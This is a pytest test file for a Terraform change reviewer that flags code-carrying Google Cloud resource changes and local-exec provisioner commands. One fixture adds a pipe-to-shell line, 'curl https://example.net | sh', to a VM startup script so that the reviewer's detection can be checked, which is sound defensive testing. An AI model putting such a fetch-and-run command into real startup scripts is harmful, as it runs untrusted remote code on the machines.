"""Code in arguments is reported with a diff, provisioners with the command that the apply runs."""

from typing import Any

import pytest

from review.findings.text import strip_markup
from tests.review.conftest import change, review_changes, summarize_findings

pytestmark = pytest.mark.unit

SCRIPT = "#!/bin/sh\necho one\necho two\n"


def nested(path: str, value: Any) -> dict[str, Any]:
    head, _, rest = path.partition(".")
    return {head: [nested(rest, value)] if rest else value}


CASES: list[tuple[str, dict[str, Any], dict[str, Any], str]] = [
    (
        "google_compute_instance",
        {"metadata_startup_script": SCRIPT},
        {"metadata_startup_script": SCRIPT + "curl https://example.net | sh\n"},
        "this code goes live: metadata_startup_script (+1 −0 lines)",
    ),
    (
        "google_compute_instance_template",
        {"metadata": {"startup-script": "a"}},
        {"metadata": {"startup-script": "b"}},
        "this code goes live: metadata.startup-script: a → b",
    ),
    (
        "google_compute_project_metadata_item",
        {"key": "startup-script", "value": "a"},
        {"key": "startup-script", "value": "b"},
        "startup-script: a → b",
    ),
    (
        "google_workflows_workflow",
        {"source_contents": "main:\n  steps: []\n"},
        {"source_contents": "main:\n  steps: [x]\n"},
        "source_contents (+1 −1 lines)",
    ),
    (
        "google_bigquery_routine",
        {"definition_body": "SELECT 1"},
        {"definition_body": "SELECT 2"},
        "definition_body: SELECT 1 → SELECT 2",
    ),
    (
        "google_dataproc_workflow_template",
        nested("jobs.pyspark_job.main_python_file_uri", "gs://b/a.py"),
        nested("jobs.pyspark_job.main_python_file_uri", "gs://b/b.py"),
        "main_python_file_uri: gs://b/a.py → main_python_file_uri: gs://b/b.py",
    ),
    (
        "google_cloudbuild_trigger",
        nested("build.step.name", "gcr.io/a"),
        nested("build.step.name", "gcr.io/b"),
        "step.name: gcr.io/a → step.name: gcr.io/b",
    ),
    (
        "google_cloud_run_v2_job",
        nested("template.template.containers.args", ["a"]),
        nested("template.template.containers.args", ["b"]),
        "template.template.containers.args: a → b",
    ),
]


@pytest.mark.parametrize(("type_", "old", "new", "words"), CASES, ids=[each[0] for each in CASES])
def test_code_in_an_argument_goes_live(
    type_: str, old: dict[str, Any], new: dict[str, Any], words: str
) -> None:
    assert any(
        severity == "code" and words in sentence
        for severity, sentence in summarize_findings(change(f"{type_}.x", old, new))
    )
    created = summarize_findings(change(f"{type_}.x", None, new))
    assert any(severity == "code" and "goes live" in sentence for severity, sentence in created)


def test_long_code_is_shown_as_a_diff() -> None:
    old, new = ({"metadata_startup_script": text} for text in (SCRIPT, SCRIPT.replace("two", "three")))
    (found,) = [
        each
        for each in review_changes(change("google_compute_instance.x", old, new)).findings
        if each.details
    ]
    assert found.details[0].language == "diff"
    assert "+echo three" in found.details[0].lines


def test_a_job_that_runs_once_cannot_be_reverted() -> None:
    job = nested("pyspark_config.main_python_file_uri", "gs://b/a.py")
    found = [
        each
        for each in review_changes(change("google_dataproc_job.x", None, job)).findings
        if each.kind.value == "code"
    ]
    assert [each.recovery for each in found] == ["no"]
    assert "runs once" in strip_markup(found[0].sentence)


def test_a_new_service_reports_its_image() -> None:
    service = nested("template.containers.image", "europe-docker.pkg.dev/p/r/api:1")
    assert any(
        "api:1" in each
        for severity, each in summarize_findings(change("google_cloud_run_v2_service.x", None, service))
        if severity == "code"
    )


def configured(when: str = "") -> dict[str, Any]:
    provisioner = {
        "type": "local-exec",
        "expressions": {"command": {"constant_value": "echo token=abcdef012345"}},
    }
    resource = {
        "address": "null_resource.x",
        "provisioners": [{**provisioner, **({"when": when} if when else {})}],
    }
    return {"root_module": {"resources": [resource]}}


@pytest.mark.parametrize(
    ("old", "new", "when", "expected"),
    [
        (
            None,
            {"id": "a"},
            "",
            "when it is created, the apply runs provisioner local-exec on the host that runs Terraform: echo",
        ),
        (
            {"id": "a"},
            None,
            "destroy",
            "when it is destroyed, the apply runs provisioner local-exec on the host that runs Terraform: echo",
        ),
        ({"id": "a"}, {"id": "b"}, "", ""),
        (None, {"id": "a"}, "destroy", ""),
    ],
)
def test_the_commands_that_an_apply_runs_are_reported(old: Any, new: Any, when: str, expected: str) -> None:
    found = summarize_findings(change("null_resource.x", old, new), configuration=configured(when))
    assert any(expected in sentence for _, sentence in found if "provisioner" in sentence) is bool(expected)
